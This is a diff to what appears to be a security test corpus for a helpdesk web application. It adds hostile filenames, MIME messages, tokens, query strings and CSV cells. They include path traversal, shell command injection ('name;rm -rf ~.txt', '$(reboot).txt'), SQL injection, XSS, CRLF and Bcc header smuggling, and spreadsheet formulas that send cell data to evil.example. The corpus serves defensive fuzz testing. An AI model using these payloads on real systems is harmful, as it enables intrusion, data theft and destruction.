@@ -85,6 +85,31 @@ FILENAMES = [
     "a\r\nContent-Type: text/html.txt",
     "%2e%2e%2fetc%2fpasswd",
     "=cmd|' /C calc'!A0.csv",
+    "..%c0%af..%c0%afetc%c0%afpasswd",
+    "..%252f..%252fetc%252fpasswd",
+    "\\\\evil.example\\share\\x.txt",
+    "C:\\Windows\\System32\\drivers\\etc\\hosts",
+    "file:///etc/passwd",
+    "x.txt\x00.html",
+    "report.txt\r\n",
+    "tab\tname.txt",
+    "bidi\u2066gpj.exe\u2069.txt",
+    "zero\u200bwidth.txt",
+    "fullwidth\uff0e\uff0e\uff0fx.txt",
+    "trailing dots...",
+    "   ",
+    "x.txt::$DATA",
+    "-rf.txt",
+    "$(reboot).txt",
+    "`id`.txt",
+    "name;rm -rf ~.txt",
+    "%00.txt",
+    "LPT1.txt",
+    "aux.html",
+    "a.svg.txt",
+    "x.xhtml",
+    "x.xml",
+    "x.htm",
 ]
 
 _HEAD = "From: Casey <{email}>\r\nTo: support@attune.localhost\r\nMessage-ID: <{mid}@x>\r\n"
@@ -118,6 +143,20 @@ MIME: dict[str, str] = {
     "Message-ID: <refs@x>\r\nIn-Reply-To: <{a_mail}>\r\nReferences: <{a_mail}>\r\n"
     "Subject: Re: yours\r\n\r\nLet me in too.",
     "eight-bit-headers": _HEAD + "Subject: caf\xe9 \xff\xfe\r\n\r\n\xff\xfe body",
+    "boundary-in-body": _HEAD
+    + 'Content-Type: multipart/alternative; boundary="b"\r\n\r\n--b--\r\n--b\r\nx\r\n',
+    "zero-length": "",
+    "header-folding-bcc": _HEAD + "Subject: hi\r\n Bcc: v@evil.example\r\n\r\nbody",
+    "duplicate-from": "From: Casey <{email}>\r\nFrom: Robin <{other}>\r\nMessage-ID: <dup-from@x>"
+    "\r\nSubject: two senders\r\n\r\nwho am I",
+    "html-attachment-named-txt": _HEAD
+    + 'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n'
+    + 'Content-Disposition: attachment; filename="note.txt"\r\n\r\n<script>alert(1)</script>'
+    + "\r\n--b--\r\n",
+    "rfc2231-traversal-name": _HEAD
+    + 'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n'
+    + "Content-Disposition: attachment; filename*=utf-8''..%2F..%2Fetc%2Fpasswd\r\n\r\nx"
+    + "\r\n--b--\r\n",
 }
 
 TOKENS: dict[str, tuple[str, str]] = {
@@ -143,6 +182,16 @@ TOKENS: dict[str, tuple[str, str]] = {
     "inbound-secret-wrong": ("inbound", "inbound-test-secreT"),
     "inbound-secret-prefix": ("inbound", "inbound-test-secret\x00"),
     "inbound-secret-unicode": ("inbound", "inbound-test-secrét"),
+    "survey-crlf": ("survey", "abc%0d%0aSet-Cookie:x=1"),
+    "survey-unicode": ("survey", "\u202e\u0000x"),
+    "survey-signed-other-salt": ("survey", "PORTAL_V1"),
+    "portal-traversal": ("portal", "..%2F..%2Fadmin"),
+    "portal-dots": ("portal", ":::"),
+    "api-bearer-empty": ("api", "Bearer "),
+    "api-bearer-sql": ("api", "Bearer atn_' OR '1'='1"),
+    "api-two-schemes": ("api", "Bearer atn_abc, Bearer atn_def"),
+    "inbound-secret-empty": ("inbound", ""),
+    "inbound-secret-spaces": ("inbound", " inbound-test-secret "),
 }
 
 # (role, path with a hostile query string) for the list and report pages.
@@ -175,6 +224,40 @@ QUERIES = [
     ("anon", "/login/?next=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"),
     ("anon", "/login/?next=javascript:alert(1)//%0d%0aX:%20y"),
     ("anon", "/support/new/?subject=%3Cscript%3E&email=%22%3E"),
+    ("agent_x", "/tickets/?after=" + "A" * 10_000),
+    ("agent_x", "/tickets/?status=open&status=closed&status=%00&status=" + "s" * 300),
+    ("agent_x", "/tickets/?priority=-1&assignee=-1&queue=0"),
+    ("agent_x", "/tickets/?page=-1&page=abc&per_page=1000000"),
+    ("agent_x", "/tickets/?view=%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
+    ("agent_x", "/tickets/?order=-pk;DROP%20TABLE%20x&sort=__class__"),
+    ("agent_x", "/tickets/search/?q=%E2%80%AE%00%C0%AF"),
+    ("agent_x", "/tickets/search/?q=%ff%fe%fd"),
+    ("agent_x", "/tickets/search/?q=%27%29%3B+SELECT+pg_sleep%285%29--"),
+    ("agent_x", "/tickets/search/?q=%23999999999999999999999"),
+    ("agent_x", "/tickets/search/?q=&status=%3Cscript%3E&queue=x"),
+    ("agent_x", "/tickets/macros/?q=%3Csvg+onload%3Dalert(1)%3E"),
+    ("mgr_x", "/empathy/dashboard/?team=abc&start=%0d%0a"),
+    ("mgr_x", "/empathy/dashboard/?team=99999999999999999999&start=2020-02-30"),
+    ("mgr_x", "/empathy/dashboard/export.csv?team=-1&start=2024-01-01&end=2024-01-01T00:00"),
+    ("mgr_x", "/surveys/report/?start=%3Cscript%3E&team=%27"),
+    ("mgr_x", "/surveys/report/?page=99999999999999999999"),
+    ("agent_x", "/empathy/me/?start=2024-02-30&end=2024-13-01"),
+    ("agent_x", "/api/v1/tickets/?limit=-1&page_size=100000000"),
+    ("agent_x", "/api/v1/tickets/?ordering=password&ordering=-requester__user__password"),
+    ("agent_x", "/api/v1/tickets/?q=%00%27%22%3C%3E&updated_after=notadate"),
+    ("agent_x", "/api/v1/tickets/?created_after=9999-12-31T99:99:99&created_before=0"),
+    ("agent_x", "/api/v1/tickets/1/messages/?cursor=%00"),
+    ("agent_x", "/api/v1/tickets/1/events/?cursor=cD0xJnI9MQ%3D%3D&limit=abc"),
+    ("agent_x", "/api/v1/customers/?q=%25%25%25&cursor=x"),
+    ("agent_x", "/api/v1/macros/?search=%3Cscript%3E&cursor=%ff"),
+    ("mgr_x", "/api/v1/empathy/dashboard/?team=abc&start=x&end=y"),
+    ("mgr_x", "/api/v1/empathy/scores/?agent=abc&level=%00&min=1e309"),
+    ("mgr_x", "/api/v1/surveys/?cursor=%00&rating=abc&team=-1"),
+    ("agent_x", "/api/v1/empathy/exemplary/?cursor=x&team=%27"),
+    ("cust_a", "/portal/?page=%00&q=%3Cscript%3E"),
+    ("cust_a", "/portal/tickets/99999999999999999999999/"),
+    ("anon", "/portal/login/%2e%2e%2f%2e%2e%2fetc%2fpasswd/"),
+    ("anon", "/surveys/s/%00%ff/"),
 ]
 
 CSV = [
@@ -187,6 +270,16 @@ CSV = [
     "=cmd|'/C notepad'!A0",
     "|calc",
     "%0A=1+1",
+    "=1+1",
+    "+SUM(A1:A9)",
+    "@@=1+1",
+    "\n=1+1",
+    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+    '=WEBSERVICE("http://evil.example/"&A1)',
+    "-@SUM(1)",
+    "\u200b=1+1",
+    '=DDE("cmd";"/C calc";"!A0")',
+    "'=1+1",
 ]
 
 TEXT_PAYLOADS = [
@@ -194,3 +287,7 @@ TEXT_PAYLOADS = [
 ]
 CASES = [(sink, pid, text) for sink in TEXT_SINKS for pid, text in TEXT_PAYLOADS]
 CORPUS_SIZE = len(CASES) + len(QUERIES) + len(FILENAMES) + len(MIME) + len(TOKENS) + len(CSV)
+# The hand-written inputs, each counted once however many sinks it is sent to.
+DISTINCT_INPUTS = (
+    len(TEXT_PAYLOADS) + len(QUERIES) + len(FILENAMES) + len(MIME) + len(TOKENS) + len(CSV)
+)
